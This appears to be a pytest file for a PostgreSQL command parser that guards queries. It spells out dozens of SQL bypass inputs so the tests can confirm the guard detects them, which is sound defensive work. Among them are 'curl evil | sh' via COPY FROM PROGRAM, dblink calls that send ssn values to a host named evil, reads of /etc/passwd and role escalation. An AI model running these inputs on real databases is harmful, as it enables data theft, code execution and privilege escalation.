"""The ways around a guard that a parser must see (docs/bypass.md, cases 1-59), each in several spellings.

What the adapter decides (startup options, messages, replication) is not here. `_seen` checks what a tree must say so that
a policy can stop the case; `_harmless` that a case which only looks dangerous stays allowed.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest

from engine.command.tree import Command
from tests.sql_commands import CATALOG, catalog, effects, is_refused, kinds, only, own, tree

SSN = "public.cust.ssn"
Check = Callable[[Command], object]


def does(*wanted: str) -> Check:
    return lambda command: effects(command).issuperset(wanted)


def has_kind(*wanted: str) -> Check:
    return lambda command: set(kinds(command)).issuperset(wanted)


def has_feature(*wanted: str) -> Check:
    return lambda command: set(command.features).issuperset(wanted)


def statements(number: int) -> Check:
    return lambda command: (
        command.sql is not None and command.sql.statements == number and command.sql.is_multi == (number > 1)
    )


def comes_from(column: str = SSN) -> Check:
    return lambda command: column in only(command).origins


def derived_from(column: str = SSN, call: str | None = None) -> Check:
    def check(command: Command) -> bool:
        output = only(command)
        return output.derived and column in output.origins and (call is None or call in (output.calls or ()))

    return check


def filters_by(column: str = SSN) -> Check:
    return lambda command: command.sql is not None and column in command.sql.filters


def reads(column: str = SSN) -> Check:
    return lambda command: command.sql is not None and column in command.sql.reads


def copied_plainly(command: Command) -> bool:
    return only(command).proven and not only(command).derived


def refused(command: Command) -> bool:
    return is_refused(command)


def harmless(command: Command) -> bool:
    return effects(command) == {"read"} and command.complete and not command.problems


CASES: dict[str, tuple[tuple[Check, ...], list[str]]] = {
    "1 a second statement": (
        (statements(2), has_kind("select", "drop_table"), does("delete")),
        [
            "SELECT 1; DROP TABLE cust",
            "SELECT 1;\n\n;DROP/**/TABLE cust;",
            "SELECT ';' ; drop table if exists public.cust cascade",
            'SELECT $$;$$;DROP TABLE "cust"',
            "SELECT 1;--\r\nDROP TABLE cust",
        ],
    ),
    "2 transactions inside a batch": (
        (does("session", "create"), has_feature("transaction_control")),
        [
            "BEGIN READ ONLY; SELECT 1; COMMIT; CREATE TABLE x()",
            "START TRANSACTION READ ONLY; END; CREATE TABLE x()",
            "COMMIT AND CHAIN; CREATE TABLE x()",
            "begin; rollback; create table x ()",
        ],
    ),
    "3 comments before the verb": (
        (does("delete"), has_kind("delete")),
        [
            "/* hi */ -- x\n DELETE FROM cust",
            "--\nDELETE FROM cust",
            "/*/* select */*/ DELETE FROM cust",
            "\f\v\t DELETE/**/FROM/**/cust",
            "(((\n-- x\nselect 1))) ; delete from cust",
        ],
    ),
    "4 a verb inside a comment": (
        (harmless, statements(1)),
        [
            "/* a /* b */ DELETE FROM cust */ SELECT 1",
            "SELECT 1 -- ; DROP TABLE cust",
            "SELECT /* ; DROP TABLE cust; */ 1",
            "SELECT 1 /*/* DELETE */ FROM cust*/",
        ],
    ),
    "5 strings end where the server ends them": (
        (statements(2), does("delete")),
        [
            "SELECT E'\\'' ; DELETE FROM cust --'",
            "SELECT 'a\\' ; DELETE FROM cust --'",
            "SELECT $a$ ' $a$ ; DELETE FROM cust --'",
            "SELECT 'it''s' ; DELETE FROM cust --'",
            "SELECT U&'\\0027' ; DELETE FROM cust --'",
        ],
    ),
    "6 settings of the lexer": (
        (has_feature("lexer_setting"), does("session")),
        [
            "SET standard_conforming_strings = off",
            "SET SESSION Standard_Conforming_Strings TO 'off'",
            'SET LOCAL "STANDARD_CONFORMING_STRINGS" TO DEFAULT',
            "RESET standard_conforming_strings",
            "SELECT set_config('standard_conforming_strings', 'off', false)",
            "SELECT pg_catalog.set_config('STANDARD_conforming_strings', 'off', true)",
            "SET backslash_quote = on",
            "RESET ALL",
        ],
    ),
    "8 the client's encoding": (
        (has_feature("lexer_setting"), does("session")),
        [
            "SET client_encoding='SJIS'",
            "SET NAMES 'GBK'",
            "SET LOCAL CLIENT_ENCODING TO big5",
            "SELECT set_config('client_encoding','SJIS',false)",
        ],
    ),
    "9 and 10 the search path": (
        (has_feature("search_path"), does("session")),
        [
            "SET search_path=evil,public; SELECT * FROM cust",
            "SET SCHEMA 'evil'",
            "SELECT set_config('search_path','evil',false)",
            "WITH s AS (SELECT set_config('SEARCH_PATH','evil',false)) SELECT * FROM cust, s",
            "RESET search_path",
            "SET search_path FROM CURRENT",
        ],
    ),
    "10 a setting whose name is computed": (
        (refused, has_feature("dynamic_sql")),
        [
            "SELECT set_config('search'||'_path','evil',false)",
            "SELECT set_config(name, 'evil', false) FROM cust",
            "SELECT set_config((SELECT 'role'), 'x', true)",
            "SELECT set_config($1, 'x', true)",
        ],
    ),
    "11 a temporary object in front of another": (
        (has_feature("temp_object"), does("create")),
        [
            "CREATE TEMP TABLE cust(id int)",
            "CREATE LOCAL TEMPORARY TABLE cust(id int)",
            "CREATE TABLE pg_temp.cust(id int)",
            "SELECT 1 AS id INTO TEMP cust",
            "CREATE TEMP VIEW cust AS SELECT 1",
            "CREATE TEMP SEQUENCE cust",
            "CREATE TEMP TABLE cust AS SELECT 1",
        ],
    ),
    "12 and 13 names in other spellings": (
        (comes_from(), copied_plainly),
        [
            'SELECT U&"\\0073sn" FROM cust',
            "SELECT U&\"!0073sn\" UESCAPE '!' FROM cust",
            "SELECT SSN FROM CUST",
            'SELECT "ssn" FROM "public"."cust"',
            'SELECT CUST."ssn" FROM cusT',
            "SELECT public.cust.ssn FROM public.cust",
            'SELECT u&"\\+000073sn" FROM cust',
        ],
    ),
    "14 a column under another name": (
        (comes_from(), copied_plainly),
        [
            "SELECT ssn AS note FROM cust",
            "SELECT note FROM (SELECT ssn FROM cust) AS s(note)",
            "WITH s(note) AS (SELECT ssn FROM cust) SELECT note FROM s",
            "SELECT l.note FROM cust c, LATERAL (SELECT c.ssn AS note) l",
            "SELECT c.note FROM cust c(a, b, note)",
            "SELECT (SELECT ssn FROM cust LIMIT 1)",
            "WITH RECURSIVE r(n) AS (SELECT ssn FROM cust UNION ALL SELECT n FROM r) SELECT n FROM r",
            "SELECT x.ssn FROM (cust JOIN orders ON cust.id = cust_id) AS x",
            "UPDATE cust SET amt = 1 WHERE id = 1 RETURNING ssn AS n",
            "DELETE FROM cust RETURNING old.ssn",
        ],
    ),
    "15 a view over a column": (
        (comes_from(),),
        [
            "SELECT code FROM v",
            "SELECT x FROM v AS w(x)",
            "SELECT s.code FROM (SELECT * FROM public.v) s",
            "WITH w AS (TABLE v) SELECT code FROM w",
        ],
    ),
    "16 whole rows": (
        (derived_from(), has_feature("whole_row")),
        [
            "SELECT cust FROM cust",
            "SELECT row_to_json(c) FROM cust c",
            "SELECT to_jsonb(c.*) FROM cust c",
            "SELECT c::text FROM cust c",
            "SELECT array_agg(cust) FROM cust",
            "SELECT cust.cust FROM cust",
            "SELECT public.cust.* IS NULL FROM cust",
        ],
    ),
    "17 set operations": (
        (comes_from(),),
        [
            "SELECT ssn FROM cust UNION ALL SELECT ssn FROM cust",
            "SELECT name FROM cust UNION SELECT ssn FROM cust",
            "SELECT 'x' UNION ALL (VALUES ('y') UNION ALL SELECT ssn FROM cust)",
            "(SELECT ssn FROM cust EXCEPT SELECT name FROM cust) INTERSECT SELECT name FROM cust",
        ],
    ),
    "18 and 19 computed from a column": (
        (derived_from(),),
        [
            "SELECT max(ssn) FROM cust",
            "SELECT array_agg(ssn ORDER BY id) FROM cust",
            "SELECT string_agg(ssn, ',') FROM cust",
            "SELECT first_value(ssn) OVER (ORDER BY id) FROM cust",
            "SELECT substr(ssn,1,1) FROM cust",
            "SELECT substring(ssn from 1 for 1) FROM cust",
            "SELECT md5(ssn) FROM cust",
            "SELECT ssn||'' FROM cust",
            "SELECT ssn::bytea FROM cust",
            "SELECT encode(ssn::bytea, 'hex') FROM cust",
            "SELECT format('%s', ssn) FROM cust",
            "SELECT coalesce(ssn, '') FROM cust",
            "SELECT greatest(ssn, '') FROM cust",
            "SELECT ARRAY[ssn] FROM cust",
            "SELECT ARRAY(SELECT ssn FROM cust)",
            "SELECT ROW(ssn) FROM cust",
            "SELECT xmlelement(name a, ssn) FROM cust",
            "SELECT json_object('a': ssn) FROM cust",
            "SELECT json_arrayagg(ssn) FROM cust",
            'SELECT ssn COLLATE "C" FROM cust',
            "SELECT max(s) FROM (SELECT ssn s FROM cust) q",
        ],
    ),
    "20 an oracle by error": (
        (derived_from(call="op:/"), derived_from(call="case")),
        [
            "SELECT 1/(CASE WHEN ssn LIKE '01%' THEN 0 ELSE 1 END) FROM cust",
            "SELECT 1/(CASE ssn WHEN '01' THEN 0 ELSE 1 END) FROM cust",
            "SELECT (CASE WHEN left(ssn, 1) = '0' THEN 0 ELSE 1 END) / 0 FROM cust",
            "SELECT 1/(SELECT CASE WHEN ssn > '5' THEN 0 END FROM cust LIMIT 1)",
        ],
    ),
    "20 an oracle by an error of what nobody sees": (
        (filters_by(), comes_from()),
        [
            "WITH q AS MATERIALIZED (SELECT ssn, 1 / (ascii(ssn) - 48) AS z FROM cust) SELECT ssn FROM q",
            "SELECT ssn FROM (SELECT ssn, ssn::int AS z FROM cust OFFSET 0) q",
            "SELECT ssn FROM (SELECT ssn, 1 / length(ssn) FROM cust UNION ALL SELECT 'a', 1) q",
            "SELECT c.ssn FROM cust c, LATERAL (VALUES (1 / (ascii(c.ssn) - 48)), (2)) v(z)",
            "WITH a AS (SELECT ssn, ssn::date FROM cust), b AS (SELECT ssn FROM a) SELECT upper(ssn) FROM b",
            "WITH a AS (SELECT ssn FROM cust), b AS (SELECT 1 / ascii(ssn) AS z, ssn FROM a) SELECT (SELECT max(ssn) FROM b)",
        ],
    ),
    "20 an oracle by the number of rows": (
        (filters_by(),),
        [
            "SELECT ssn FROM (SELECT ssn, generate_series(1, ascii(ssn) - 47) FROM cust) q",
            "SELECT ssn, EXISTS (SELECT generate_series(1, position('010' in ssn))) FROM cust",
            "SELECT ssn, (SELECT count(*) FROM (SELECT generate_series(1, ascii(c.ssn))) q) FROM cust c",
            "SELECT ssn, ARRAY(SELECT 1 FROM (SELECT unnest(string_to_array(c.ssn, '-'))) q) FROM cust c",
            "SELECT ssn, EXISTS (SELECT 1 / ascii(ssn) UNION ALL SELECT 1 OFFSET 1) FROM cust",
            "SELECT ssn FROM cust, XMLTABLE('/r' PASSING (ssn::xml) COLUMNS n FOR ORDINALITY) t",
            "SELECT ssn FROM cust, JSON_TABLE(ssn::jsonb, '$[*]' COLUMNS (n FOR ORDINALITY)) t",
            "SELECT ssn, a_function(ssn) FROM cust",
        ],
    ),
    "21 a column that decides about groups by its place": (
        (filters_by(),),
        [
            "SELECT ssn, count(*) FROM cust GROUP BY ROLLUP(1)",
            "SELECT ssn, count(*) FROM cust GROUP BY CUBE((1, 2))",
            "SELECT ssn AS z, count(*) FROM cust GROUP BY GROUPING SETS ((z), ())",
            "SELECT id, ssn FROM cust GROUP BY (1, 2)",
            "SELECT ssn, id FROM cust GROUP BY DISTINCT ROLLUP(2, (1)), 2",
            "WITH RECURSIVE t(s) AS (SELECT ssn FROM cust UNION ALL SELECT 'x' FROM t) CYCLE s SET z USING p SELECT s FROM t",
        ],
    ),
    "21 a column that only decides": (
        (filters_by(), reads()),
        [
            "SELECT id FROM cust WHERE ssn='010-11-1234'",
            "SELECT id FROM cust ORDER BY ssn",
            "SELECT id FROM cust ORDER BY 1, upper(ssn)",
            "SELECT id FROM cust GROUP BY id, ssn",
            "SELECT count(*) FROM cust GROUP BY ssn HAVING count(*) > 1",
            "SELECT c.id FROM cust c JOIN orders o ON c.ssn = o.total::text",
            "SELECT DISTINCT ON (ssn) id FROM cust",
            "SELECT id, rank() OVER (PARTITION BY ssn) FROM cust",
            "SELECT count(*) FILTER (WHERE ssn = 'x') FROM cust",
            "SELECT array_agg(id ORDER BY ssn) FROM cust",
            "SELECT id FROM cust WHERE EXISTS (SELECT 1 FROM orders WHERE total::text = ssn)",
            "SELECT id FROM cust WHERE id IN (SELECT id FROM cust WHERE ssn > '5')",
            "SELECT id FROM cust a JOIN cust b USING (id, ssn)",
            "SELECT a.id FROM cust a NATURAL JOIN cust b",
            "SELECT id FROM cust LIMIT (SELECT length(ssn) FROM cust LIMIT 1)",
            "UPDATE cust SET amt = 0 WHERE ssn = 'x'",
            "DELETE FROM cust WHERE ssn LIKE '0%'",
            "SELECT id FROM (SELECT id, ssn AS s FROM cust) q WHERE s = '1'",
            "MERGE INTO cust USING orders ON cust.ssn = 'x' WHEN MATCHED THEN DO NOTHING",
        ],
    ),
    "22 a cast that fails loudly": (
        (derived_from(call="cast:int4"),),
        [
            "SELECT ssn::int FROM cust",
            "SELECT CAST(ssn AS integer) FROM cust",
            "SELECT (ssn)::pg_catalog.int4 FROM cust",
            "SELECT s::int FROM (SELECT ssn s FROM cust) q",
        ],
    ),
    "24 existence by conflict": (
        (filters_by(), does("write")),
        [
            "INSERT INTO cust (ssn) VALUES ('x') ON CONFLICT (ssn) DO NOTHING",
            "INSERT INTO cust (ssn) VALUES ('x') ON CONFLICT (lower(ssn)) DO UPDATE SET amt = 1",
            "INSERT INTO cust (id) VALUES (1) ON CONFLICT (id) WHERE ssn > 'x' DO NOTHING",
            "INSERT INTO cust (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET amt = 1 WHERE cust.ssn = 'x'",
        ],
    ),
    "25 and 26 a column sent elsewhere": (
        (reads(), lambda command: effects(command) & {"session", "write", "execute"}),
        [
            "SELECT set_config('application_name',(SELECT ssn FROM cust LIMIT 1),false)",
            "SELECT pg_notify('c', ssn) FROM cust",
            "SELECT pg_logical_emit_message(true, 'x', ssn) FROM cust",
            "SELECT lo_from_bytea(0, ssn::bytea) FROM cust",
            "SELECT dblink('host=evil', ssn) FROM cust",
        ],
    ),
    "27 what a block of code reads": (
        (has_kind("do", "select"), reads(), does("execute")),
        [
            "DO $$ BEGIN RAISE NOTICE '%',(SELECT ssn FROM cust); END $$",
            "DO 'DECLARE v text; BEGIN SELECT ssn INTO v FROM cust; RAISE NOTICE ''%'', v; END'",
            "DO $$ DECLARE r record; BEGIN FOR r IN SELECT ssn AS x FROM cust LOOP RAISE NOTICE '%', r.x; END LOOP; END $$",
            "DO $$ BEGIN IF (SELECT ssn FROM cust LIMIT 1) LIKE '0%' THEN NULL; END IF; END $$",
        ],
    ),
    "28 what a block of code runs": (
        (has_kind("do", "drop_table"), does("execute", "delete")),
        [
            "DO $x$ BEGIN DROP TABLE cust; END $x$",
            "DO $x$ BEGIN EXECUTE 'DROP TABLE cust'; END $x$",
            "DO $x$ BEGIN EXECUTE E'DR\\x4fP TABLE cust'; END $x$",
            "DO $x$ BEGIN IF true THEN BEGIN NULL; EXCEPTION WHEN OTHERS THEN DROP TABLE cust; END; END IF; END $x$",
        ],
    ),
    "28 opaque code": (
        (refused, does("execute")),
        [
            "DO $x$ BEGIN EXECUTE 'DRO'||'P TABLE cust'; END $x$",
            "DO $x$ DECLARE q text := 'DROP TABLE cust'; BEGIN EXECUTE q; END $x$",
            "DO $x$ DECLARE r record; BEGIN FOR r IN EXECUTE format('DROP TABLE %I', 'cust') LOOP END LOOP; END $x$",
            "DO LANGUAGE plpython3u $$ import os $$",
            "DO $x$ BEGIN nonsense here; END $x$",
            "CALL wipe(1)",
        ],
    ),
    "29 prepared statements": (
        (does("delete", "session"), has_kind("prepare", "delete")),
        [
            "PREPARE p AS DELETE FROM cust",
            "PREPARE p(int) AS DELETE FROM cust WHERE id = $1; EXECUTE p(1)",
            'PREPARE "P" AS WITH d AS (DELETE FROM cust RETURNING *) SELECT * FROM d',
            "prepare p as merge into cust using orders on true when matched then delete",
        ],
    ),
    "29 and 30 executing what nobody knows": (
        (refused, does("execute")),
        ["EXECUTE p", "EXECUTE p(1)", "EXPLAIN ANALYZE EXECUTE p", "CREATE TABLE x AS EXECUTE p"],
    ),
    "33 padding": (
        (refused,),
        [
            "SELECT 1;" * 10_001 + "DROP TABLE cust",
            "/*" + "x" * (20 << 20) + "*/ SELECT 1; DROP TABLE cust",
            "SELECT 1" + " " * (1 << 20) + "; DROP TABLE cust",
            "SELECT " + "(" * 20_000 + "1" + ")" * 20_000 + "; DROP TABLE cust",
        ],
    ),
    "35 COPY out": (
        (has_kind("copy_to"), comes_from()),
        [
            "COPY cust (ssn) TO STDOUT",
            "COPY (SELECT ssn FROM cust) TO STDOUT (FORMAT binary)",
            "copy public.cust(ssn) to stdout with csv",
            "COPY (SELECT s FROM (SELECT ssn AS s FROM cust) q) TO STDOUT",
        ],
    ),
    "36 COPY with the server's programs and files": (
        (does("execute"), lambda command: set(command.features) & {"copy_program", "copy_file"}),
        [
            "COPY cust TO PROGRAM 'sh'",
            "COPY cust FROM PROGRAM 'curl evil | sh'",
            "COPY (SELECT 1) TO '/tmp/f'",
            "COPY cust FROM '/etc/passwd'",
            "COPY cust TO E'/tmp/\\146'",
        ],
    ),
    "37 to 40 writes inside something else": (
        (does("delete"),),
        [
            "COPY (DELETE FROM cust RETURNING *) TO STDOUT",
            "WITH d AS (DELETE FROM cust RETURNING *) SELECT count(*) FROM d",
            "WITH d AS MATERIALIZED (DELETE FROM cust RETURNING *) SELECT 1",
            "WITH a AS (SELECT 1), d AS (DELETE FROM cust) INSERT INTO orders SELECT 1",
            "EXPLAIN ANALYZE DELETE FROM cust",
            "EXPLAIN (ANALYZE) DELETE FROM cust",
            "EXPLAIN (ANALYZE false, ANALYZE on) DELETE FROM cust",
            "EXPLAIN (analyze 1) WITH d AS (DELETE FROM cust RETURNING *) SELECT 1",
            "MERGE INTO cust USING orders ON cust.id = cust_id WHEN MATCHED THEN DELETE",
            "MERGE INTO cust USING orders ON cust.id = cust_id WHEN NOT MATCHED BY SOURCE THEN DELETE",
            "DECLARE c CURSOR FOR WITH d AS (DELETE FROM cust RETURNING *) SELECT * FROM d",
            "CREATE TABLE x AS WITH d AS (DELETE FROM cust RETURNING *) SELECT * FROM d",
            "CREATE RULE r AS ON SELECT TO v DO INSTEAD DELETE FROM cust",
            "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM cust'",
            "CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM cust; END",
            "SELECT query_to_xml('DELETE FROM cust', true, true, '')",
        ],
    ),
    "37 to 40 the statement itself counts as what it contains": (
        (lambda command: all(item.effect.value in ("delete", "write") for item in own(command)),),
        [
            "WITH d AS (DELETE FROM cust RETURNING *) SELECT count(*) FROM d",
            "EXPLAIN ANALYZE DELETE FROM cust",
            "EXPLAIN ANALYZE WITH d AS (DELETE FROM cust RETURNING *) SELECT 1",
            "EXPLAIN (ANALYZE) INSERT INTO cust (id) VALUES (1)",
            "EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1",
            "SELECT * INTO x FROM cust",
            "SELECT * FROM cust FOR SHARE",
        ],
    ),
    "39 plans without running": (
        (lambda command: effects(command) == {"read"}, lambda command: command.complete),
        [
            "EXPLAIN DELETE FROM cust",
            "EXPLAIN (ANALYZE false) DELETE FROM cust",
            "EXPLAIN (ANALYZE off, VERBOSE) UPDATE cust SET amt = 1",
            "EXPLAIN (FORMAT json) MERGE INTO cust USING orders ON true WHEN MATCHED THEN DELETE",
        ],
    ),
    "41 queries in texts": (
        (reads(), has_feature("sql_text")),
        [
            "SELECT query_to_xml('select ssn from cust',true,true,'')",
            "SELECT pg_catalog.query_to_xmlschema($$select ssn from cust$$,true,true,'')",
            "SELECT table_to_xml('cust',true,true,'')",
            "SELECT table_to_xml('public.cust'::regclass,true,true,'')",
            "SELECT * FROM ts_stat('select ssn::tsvector from cust')",
            "SELECT ts_rewrite('a'::tsquery,'select ssn, name from cust')",
            "SELECT query_to_xml(query => 'select ssn from cust', nulls => true, tableforest => true, targetns => '')",
            "SELECT * FROM crosstab('select id, name, ssn from cust') AS t(a int)",
            "SELECT query_to_xml('select query_to_xml(''select ssn from cust'',true,true,'''')',true,true,'')",
        ],
    ),
    "41 queries in texts that are computed": (
        (refused,),
        [
            "SELECT query_to_xml('select '||'ssn from cust',true,true,'')",
            "SELECT query_to_xml(name,true,true,'') FROM cust",
            "SELECT schema_to_xml('public',true,true,'')",
            "SELECT database_to_xml(true,true,'')",
            "SELECT * FROM ts_stat((SELECT 'x'))",
            "SELECT query_to_xml('selec',true,true,'')",
            "SELECT table_to_xml(('cu'||'st')::regclass,true,true,'')",
            "SELECT crosstab($1)",
        ],
    ),
    "42 other servers": (
        (has_feature("network_access"), lambda command: effects(command) & {"execute", "create"}),
        [
            "SELECT dblink('host=x','DROP TABLE y')",
            "SELECT public.dblink_exec('DROP TABLE y')",
            "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')",
            "CREATE USER MAPPING FOR u SERVER s OPTIONS (user 'u')",
            "IMPORT FOREIGN SCHEMA a FROM SERVER s INTO public",
            "CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p",
        ],
    ),
    "43 files of the server": (
        (does("execute"), has_feature("server_file")),
        [
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT lo_import('/etc/passwd')",
            "SELECT lo_export(1, '/tmp/x')",
            "SELECT pg_read_binary_file('x')",
            "SELECT * FROM pg_ls_dir('.')",
            "SELECT (pg_stat_file('x')).size",
            "SELECT pg_file_write('x', 'y', false)",
            'SELECT "pg_catalog"."pg_read_file"(\'x\')',
            "VALUES (pg_read_file('x'))",
            "SELECT 1 WHERE pg_read_file('x') > ''",
            "SELECT 1 ORDER BY pg_read_file('x')",
            "INSERT INTO cust (name) VALUES (pg_read_file('x'))",
            "LOAD '/tmp/x.so'",
        ],
    ),
    "44 and 45 what the server knows of others": (
        (has_feature("system_statistics"),),
        [
            "SELECT most_common_vals FROM pg_stats",
            "SELECT * FROM pg_catalog.pg_stats_ext",
            "TABLE pg_statistic",
            "SELECT query FROM pg_stat_activity",
            "SELECT query FROM public.pg_stat_statements",
            "SELECT * FROM pg_prepared_statements, pg_cursors",
        ],
    ),
    "46 and 47 a column laundered through DDL": (
        (reads(), does("create")),
        [
            "CREATE TEMP TABLE l AS SELECT ssn z FROM cust",
            "CREATE VIEW w AS SELECT ssn FROM cust",
            "CREATE MATERIALIZED VIEW w AS SELECT ssn FROM cust",
            "SELECT ssn INTO l FROM cust",
            "CREATE RULE r AS ON INSERT TO orders DO ALSO SELECT ssn FROM cust",
            "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS 'SELECT ssn FROM cust'",
            "CREATE FUNCTION f() RETURNS text RETURN (SELECT ssn FROM cust LIMIT 1)",
            "CREATE TABLE l (LIKE cust); INSERT INTO l SELECT ssn FROM cust",
            "CREATE INDEX i ON cust ((ssn || ''))",
            "CREATE SCHEMA s CREATE VIEW w AS SELECT ssn FROM public.cust",
        ],
    ),
    "48 and 49 functions and operators nobody knows": (
        (refused, has_feature("unknown_function"), does("execute")),
        [
            "SELECT my_udf(id) FROM cust",
            "SELECT evil.upper(name) FROM cust",
            "SELECT id OPERATOR(evil.=) 1 FROM cust",
            "SELECT 1 |%| 2",
            "SELECT * FROM my_table_function()",
            "SELECT (cust).my_udf FROM cust",
            "SELECT cust.my_udf FROM cust",
            "SELECT id FROM cust ORDER BY id USING OPERATOR(evil.<)",
            "SELECT 1 = ANY (SELECT my_udf(1))",
            "INSERT INTO cust (id) VALUES (my_udf())",
            "SELECT * FROM cust TABLESAMPLE evil_method (1)",
            "CREATE TABLE x (a int DEFAULT my_udf())",
            "ALTER TABLE cust ADD COLUMN b int DEFAULT my_udf()",
            "ALTER TABLE cust ALTER amt TYPE int USING my_udf(amt)",
            "EXPLAIN SELECT my_udf(1)",
        ],
    ),
    "50 other rights": (
        (lambda command: set(command.features) & {"role_change", "row_security_change", "trigger_bypass"},),
        [
            "SET ROLE postgres",
            "SET SESSION AUTHORIZATION postgres",
            "SET LOCAL ROLE 'postgres'",
            "RESET ROLE",
            "RESET SESSION AUTHORIZATION",
            "SET role TO postgres",
            "SELECT set_config('role', 'postgres', false)",
            "SET row_security = off",
            "SET session_replication_role = replica",
            "ALTER TABLE cust DISABLE TRIGGER ALL",
            "ALTER TABLE cust DISABLE ROW LEVEL SECURITY",
        ],
    ),
    "51 the server itself": (
        (
            lambda command: set(command.features) & {"server_admin", "server_file", "opaque_code"},
            lambda command: effects(command) & {"create", "execute"},
        ),
        [
            "ALTER SYSTEM SET archive_command = 'sh'",
            "ALTER SYSTEM RESET ALL",
            "LOAD 'evil'",
            "CREATE EXTENSION plpython3u",
            "SELECT pg_reload_conf()",
            "SELECT pg_terminate_backend(1)",
            "SELECT pg_import_system_collations('public')",
        ],
    ),
    "52 settings that bite later": (
        (has_feature("lexer_setting"),),
        [
            "ALTER ROLE me SET standard_conforming_strings=off",
            "ALTER USER ALL IN DATABASE d SET client_encoding='SJIS'",
            "ALTER DATABASE d SET standard_conforming_strings TO off",
            "ALTER SYSTEM SET backslash_quote = on",
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET standard_conforming_strings = off AS 'SELECT 1'",
        ],
    ),
    "53 cursors": (
        (reads(), has_kind("declare_cursor", "select")),
        [
            "DECLARE c CURSOR FOR SELECT ssn FROM cust",
            "DECLARE c BINARY SCROLL CURSOR WITH HOLD FOR SELECT ssn FROM cust; FETCH ALL c",
            "DECLARE c NO SCROLL CURSOR FOR (TABLE cust)",
            'BEGIN; DECLARE "C" CURSOR FOR SELECT upper(ssn) FROM cust; MOVE 1 IN "C"; CLOSE ALL',
        ],
    ),
    "54 a SELECT that acts": (
        (lambda command: effects(command) - {"read"},),
        [
            "SELECT * FROM cust FOR UPDATE",
            "SELECT * FROM cust FOR KEY SHARE OF cust NOWAIT",
            "SELECT * FROM (SELECT * FROM cust FOR NO KEY UPDATE) q",
            "SELECT nextval('s')",
            "SELECT setval('s', 1)",
            "SELECT pg_advisory_lock(1)",
            "SELECT pg_try_advisory_xact_lock(1, 2)",
            "SELECT pg_terminate_backend(1)",
            "SELECT pg_sleep(100)",
            "SELECT 1 FROM pg_sleep(1)",
            "SELECT lo_unlink(1)",
            "SELECT lo_create(0)",
            "SELECT pg_stat_reset()",
            "SELECT pg_switch_wal()",
            "SELECT pg_create_restore_point('x')",
        ],
    ),
    "56 other ways to read a table": (
        (lambda command: command.sql is not None and "public.cust" in command.sql.relations,),
        [
            "TABLE cust",
            "VALUES ((SELECT ssn FROM cust))",
            "SELECT FROM cust",
            "SELECT 1 FROM ONLY (cust)",
            "SELECT EXISTS (TABLE cust)",
        ],
    ),
    "57 words that only look like verbs": (
        (harmless,),
        [
            "SELECT name AS delete FROM cust",
            'SELECT id AS "drop table" FROM cust',
            "SELECT 'DELETE FROM cust; DROP TABLE cust'",
            "SELECT has_table_privilege('cust', 'delete') AS delete, true AS update FROM cust",
            "SELECT id truncate FROM cust",
        ],
    ),
    "59 hints in comments": (
        (harmless,),
        [
            "/*+ SET (x) */ SELECT 1",
            "-- pgcat: SET SHARD TO 1\nSELECT 1",
            "/* route:primary */ SELECT 1",
            "SELECT /*!50000 DELETE FROM cust */ 1",
        ],
    ),
    "secrets in the text": (
        (has_feature("secret_literal"),),
        [
            "CREATE ROLE r PASSWORD 'x'",
            "ALTER USER r WITH ENCRYPTED PASSWORD 'x'",
            "CREATE USER MAPPING FOR u SERVER s OPTIONS (user 'u', password 'x')",
            "ALTER USER MAPPING FOR u SERVER s OPTIONS (SET password 'x')",
            "CREATE SUBSCRIPTION s CONNECTION 'host=h password=x' PUBLICATION p",
            "ALTER SUBSCRIPTION s CONNECTION 'postgresql://u:x@h/d'",
            "SELECT dblink_connect('host=h password=x')",
        ],
    ),
}


@pytest.mark.parametrize(
    ("name", "text"),
    [(name, text) for name, (_, texts) in CASES.items() for text in texts],
    ids=lambda value: value[:60],
)
def test_the_tree_shows_what_the_case_does(name: str, text: str) -> None:
    command = tree(text)
    for number, check in enumerate(CASES[name][0]):
        assert check(command), (number, command.operations, command.features, command.problems, command.sql)


@pytest.mark.parametrize(
    "text",
    [
        "SELECT u FROM (SELECT upper(ssn) AS u FROM cust) q",
        "WITH q AS (SELECT ssn::int AS z FROM cust) SELECT z + 1 FROM q",
        "SELECT ssn FROM (SELECT ssn, 1 / amt AS z FROM cust) q",
        "SELECT ssn FROM cust, generate_series(1, 3)",
        "SELECT ssn, count(*) OVER () FROM cust",
        "SELECT (SELECT ssn FROM cust LIMIT 1)",
        "WITH RECURSIVE r(n, s) AS (SELECT id, ssn FROM cust UNION ALL SELECT n + 1, s FROM r WHERE n < 5) SELECT s FROM r",
    ],
)
def test_what_a_result_shows_whole_decides_about_nothing(text: str) -> None:
    command = tree(text)
    assert command.sql is not None
    assert SSN in {origin for output in command.sql.outputs or () for origin in output.origins}
    assert SSN not in command.sql.filters


@pytest.mark.parametrize("name", CASES)
def test_every_case_has_at_least_three_spellings(name: str) -> None:
    assert len(CASES[name][1]) >= 3


def test_a_column_that_only_differs_in_case_is_another_column() -> None:
    # 13: PostgreSQL folds what is not quoted and nothing else.
    assert "public.cust.ssn" not in only(tree('SELECT "SSN" FROM cust')).origins
    assert not only(tree('SELECT ssn FROM "CUST"')).proven


def test_a_view_nobody_can_see_through_proves_nothing() -> None:
    output = only(tree("SELECT ssn FROM closed"))
    assert output.origins == ("public.closed.ssn",)
    assert not output.proven


def test_a_name_means_what_the_live_search_path_says() -> None:
    # 9 and 49: the schema in front wins, for tables and for functions.
    evil = catalog(search_path=("evil", "pg_catalog", "public"), functions=None)
    assert reads("evil.cust.ssn")(tree("SELECT * FROM cust", evil))
    assert not tree("SELECT upper(name) FROM cust", evil).complete
    assert tree("SELECT upper(name) FROM cust", CATALOG).complete
